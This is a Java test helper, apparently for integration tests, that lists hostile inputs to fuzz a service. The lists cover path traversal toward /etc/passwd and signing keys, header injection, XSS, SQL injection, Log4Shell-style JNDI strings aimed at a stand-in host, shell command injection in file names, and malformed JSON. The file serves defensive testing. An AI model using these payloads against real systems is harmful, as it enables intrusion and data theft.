package org.lightpath.it;

import java.util.List;
import java.util.Random;

/** What somebody writes where a name, a number or a piece of JSON belongs. */
final class HostileTexts {

  /** A word that stands in the name of every file that a request tries to make elsewhere. */
  static final String ESCAPE = "hostile-escape";

  /** Pieces of a target, byte by byte as they are sent. */
  static final List<String> SEGMENTS =
      List.of(
          "..",
          "../..",
          "%2e%2e",
          "%2E%2e%2f%2e%2e%2f",
          "..%2f..%2f..%2fetc%2fpasswd",
          "..%5c..%5c",
          "..\\..\\",
          "..;/..;a=b/",
          ";jsessionid=0;a=b",
          "%3b%3B",
          ".;x/",
          "%252e%252e%252f",
          "%25252e%25252e",
          "%c0%ae%c0%ae/",
          "%c0%af",
          "%e0%80%af",
          "%f0%80%80%af",
          "%u002e%u002e%u2215",
          "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
          "%e2%80%a5%e2%81%84",
          "%e2%80%ae",
          "%f0%9f%94%ad",
          "%cc%88a",
          "%ed%a0%80",
          "%ff%fe",
          "\u00e4\u00ff",
          "\u00c0\u00ae",
          "%00",
          "a%00.txt",
          "%0d%0aX-Injected:%20a",
          "%0aX-Injected:%20a",
          "%E5%98%8A%E5%98%8DX-Injected:%20a",
          "%09",
          "\t",
          "\u007f",
          "\u0000",
          "%",
          "%4",
          "%zz",
          "%-1",
          "//",
          "/./",
          "...",
          "~root",
          "{ulid}",
          "<script>alert(1)</script>",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "'%20OR%20'1'='1",
          "%27;DROP%20TABLE%20job;--",
          "$%7Bjndi:ldap://TRAP/a%7D",
          "${jndi:ldap://TRAP/a}",
          "%23%7B7*7%7D",
          "%%7B7*7%7D",
          "WEB-INF/web.xml",
          "%57EB-INF/web.xml",
          "META-INF/MANIFEST.MF",
          "file:%2f%2f%2fetc%2fpasswd",
          "http:%2f%2fTRAP",
          "%20",
          "+",
          "-1",
          "9".repeat(40),
          "1e999",
          "NaN",
          "a".repeat(9_000),
          "%2e%2e%2f".repeat(900),
          "/".repeat(5_000),
          ";".repeat(5_000),
          "CON",
          "a".repeat(201),
          "01DZVY846T52P6P3JWAJNJMJ1Z%0a");

  /** Names of objects, as characters, before anything escapes or quotes them. */
  static final List<String> NAMES =
      List.of(
          "../../../" + ESCAPE,
          "../" + ESCAPE,
          "..",
          ".",
          "",
          "/",
          "/tmp/" + ESCAPE,
          "/etc/passwd",
          "//etc/passwd",
          "data/../../" + ESCAPE,
          "data/..",
          "data/../keys/signing.pkcs8",
          "../keys/signing.pkcs8",
          "data//" + ESCAPE,
          "data/./" + ESCAPE,
          "data/." + ESCAPE,
          "data/a\u0000/../../" + ESCAPE,
          "data/" + ESCAPE + "\u0000.fits",
          "data/" + ESCAPE + "\n.fits",
          "data/" + ESCAPE + "\r\nX-Injected: a",
          "data\\..\\..\\" + ESCAPE,
          "C:\\" + ESCAPE,
          "\\\\host\\share\\" + ESCAPE,
          "data/..;/" + ESCAPE,
          "data/%2e%2e/" + ESCAPE,
          "data/\uff0e\uff0e/" + ESCAPE,
          "data/\u2025/" + ESCAPE,
          "data/..\u2215..\u2215" + ESCAPE,
          "data/\u202e" + ESCAPE,
          "data/e\u0301.fits",
          "data/\ud83d\udd2d.fits",
          "data/a/b/c/d/e/" + ESCAPE,
          "data/" + "a".repeat(201),
          "data/" + "a/".repeat(2_000),
          "d".repeat(4_096),
          "data/$(touch " + ESCAPE + ")",
          "data/`touch " + ESCAPE + "`",
          "data/|touch " + ESCAPE,
          "data/-rf",
          "data/~/" + ESCAPE,
          "~/" + ESCAPE,
          "data/" + ESCAPE + " ",
          " data/" + ESCAPE,
          "data/\"; filename=\"" + ESCAPE,
          "${jndi:ldap://TRAP/a}",
          "file:///etc/passwd",
          "http://TRAP/a.fits",
          "objects.unfinished/../" + ESCAPE);

  private static final List<String> NUMBERS =
      List.of(
          "1e999",
          "-1e999",
          "1e2147483648",
          "9".repeat(500),
          "NaN",
          "Infinity",
          "-Infinity",
          "0x10",
          "01",
          "+1",
          ".5",
          "1.",
          "--1",
          "1e",
          "\u0661");

  private HostileTexts() {}

  static String pick(Random random, List<String> from) {
    return from.get(random.nextInt(from.size()));
  }

  /** Text that is no JSON object that one could accept: too deep, too large, ambiguous, broken. */
  static String badJson(Random random) {
    int depth = 101 + random.nextInt(20_000);
    return switch (random.nextInt(16)) {
      case 0 -> "{\"a\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
      case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
      case 2 -> "[".repeat(depth);
      case 3 -> "{\"a\":[" + "0,".repeat(100_000) + "0]}";
      case 4 -> "{\"site\":\"saf\",\"site\":\"wmd\"}";
      case 5 -> "{\"a\":{\"b\":1,\"\\u0062\":2}}";
      case 6, 7 -> "{\"a\":" + pick(random, NUMBERS) + "}";
      case 8 -> "{\"a\":1}{\"a\":2}";
      case 9 -> "{'a':1}";
      case 10 -> "{\"a\":1,}";
      case 11 -> "{/* */\"a\":1}";
      case 12 -> "{\"a\":\"" + (char) random.nextInt(32) + "\"}";
      case 13 -> "{\"a\":\"\\u12\"}";
      case 14 -> "{\"a\":\"\\x\", \u0000}";
      default -> "{\"a\":\"unfinished".substring(0, 1 + random.nextInt(15));
    };
  }

  /** JSON of one kind where another is expected, and text that some program would act upon. */
  static String oddValue(Random random) {
    return switch (random.nextInt(16)) {
      case 0 -> "{}";
      case 1 -> "[]";
      case 2 -> "[[{}],null]";
      case 3 -> "null";
      case 4 -> "true";
      case 5 -> "-1";
      case 6 -> "1e308";
      case 7 -> "9".repeat(300);
      case 8 -> "\"\\ud800\"";
      case 9 -> "\"\\u0000\"";
      case 10 -> "\"" + "a".repeat(200_000) + "\"";
      case 11 -> "\"${jndi:ldap://TRAP/a}\"";
      case 12 -> "\"'; DROP TABLE job; --\"";
      case 13 -> "\"\\r\\nX-Injected: a\"";
      case 14 -> "{\"@type\":\"java.net.URL\",\"val\":\"http://TRAP/\"}";
      default -> "\"../../" + ESCAPE + "\"";
    };
  }
}
